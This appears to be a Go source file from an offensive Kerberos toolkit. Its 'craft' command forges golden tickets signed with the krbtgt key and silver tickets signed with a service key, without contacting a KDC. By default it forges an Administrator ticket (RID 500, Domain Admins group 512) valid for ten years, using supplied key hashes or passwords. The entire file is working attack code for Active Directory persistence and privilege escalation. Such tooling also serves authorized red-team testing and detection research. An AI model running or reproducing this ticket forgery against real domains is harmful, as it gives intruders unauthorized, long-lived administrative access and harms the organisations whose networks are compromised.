package main

import (
	"flag"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/sprout-sec/kerbeus-go/cipher"
	"github.com/sprout-sec/kerbeus-go/credtypes"
	"github.com/sprout-sec/kerbeus-go/errs"
	"github.com/sprout-sec/kerbeus-go/formatcodec"
	"github.com/sprout-sec/kerbeus-go/krbuser"
	"github.com/sprout-sec/kerbeus-go/messageforge"
	"github.com/sprout-sec/kerbeus-go/orchestrator"
	"github.com/sprout-sec/kerbeus-go/pacforge"
)

// runCraft forges a golden ticket (golden==true, sname krbtgt/-realm, signed
// by the krbtgt key) or a silver ticket (golden==false, sname -spn, signed
// by the target service's own key). Neither contacts a KDC.
func runCraft(args []string, golden bool) error {
	name := "silver"
	if golden {
		name = "golden"
	}
	fs := flag.NewFlagSet(name, flag.ExitOnError)

	realm := fs.String("realm", "", "domain realm, e.g. DOMAIN.COM")
	domainSID := fs.String("domain-sid", "", "domain SID, e.g. S-1-5-21-...")
	user := fs.String("user", "Administrator", "client principal to forge the ticket for")
	userID := fs.Uint("user-rid", 500, "client principal's RID")
	groups := fs.String("groups", "512", "comma-separated RIDs for GroupIds, e.g. 512,513,518,519,520")
	spn := fs.String("spn", "", "target service, e.g. cifs/host.domain.com (silver tickets only)")
	var keyFlag keyFlags
	keyFlag.register(fs)
	vaultPath := fs.String("vault", "", "vault file to append the forged ticket to; empty means stdout summary only")
	lifetime := fs.Duration("lifetime", 10*365*24*time.Hour, "ticket lifetime from now")
	if err := fs.Parse(args); err != nil {
		return err
	}

	if *realm == "" {
		return errs.NewStringError("-realm is required")
	}

	sid, err := pacforge.ParseSID(*domainSID)
	if err != nil {
		return err
	}

	var signingPrincipal krbuser.KrbUser
	clientName := messageforge.NTPrincipal(*user)
	sname := messageforge.NTSrvInst(credtypes.KrbtgtLabel + "/" + *realm)
	if golden {
		signingPrincipal = krbuser.NewKrbUser("krbtgt", *realm)
	} else {
		if *spn == "" {
			return errs.NewStringError("-spn is required for silver tickets")
		}
		sname = messageforge.NTSrvInst(*spn)
		signingPrincipal = krbuser.NewKrbUser(*spn, *realm)
	}

	signingKey, err := keyFlag.resolve(signingPrincipal)
	if err != nil {
		return err
	}
	if signingKey == nil {
		return errs.NewStringError("a signing key is required (-password, -hashes, -aes, or -keytab)")
	}

	signingCipher, err := cipher.DeriveCipher(signingKey, signingPrincipal, 0, nil)
	if err != nil {
		return err
	}

	groupIDs, err := parseGroupRIDs(*groups)
	if err != nil {
		return err
	}

	logonTime := time.Now().UTC()
	o := orchestrator.New(nil, (&commonFlags{vaultPath: *vaultPath}).openVault())

	cred, err := o.Craft(orchestrator.CraftRequest{
		ClientName:   clientName,
		ClientRealm:  *realm,
		ServiceName:  sname,
		ServiceRealm: *realm,
		SigningKey:   signingCipher,
		LogonInfo: pacforge.LogonInfo{
			EffectiveName: *user,
			LogonDomain:   *realm,
			UserID:        uint32(*userID),
			DomainSID:     sid,
			GroupIDs:      groupIDs,
		},
		LogonTime: logonTime,
		Lifetime:  *lifetime,
	}, formatcodec.KRB)
	if err != nil {
		return err
	}

	fmt.Printf("forged %s ticket: %s@%s for %s, valid until %s\n", name, *user, *realm, cred.ServiceString(), cred.CredInfo.EndTime)
	return nil
}

func parseGroupRIDs(csv string) ([]pacforge.GroupMembership, error) {
	var out []pacforge.GroupMembership
	for _, field := range strings.Split(csv, ",") {
		field = strings.TrimSpace(field)
		if field == "" {
			continue
		}
		rid, err := strconv.ParseUint(field, 10, 32)
		if err != nil {
			return nil, errs.NewStringError("invalid RID %q", field)
		}
		out = append(out, pacforge.GroupMembership{RelativeID: uint32(rid), Attributes: pacforge.DefaultGroupAttributes})
	}
	return out, nil
}
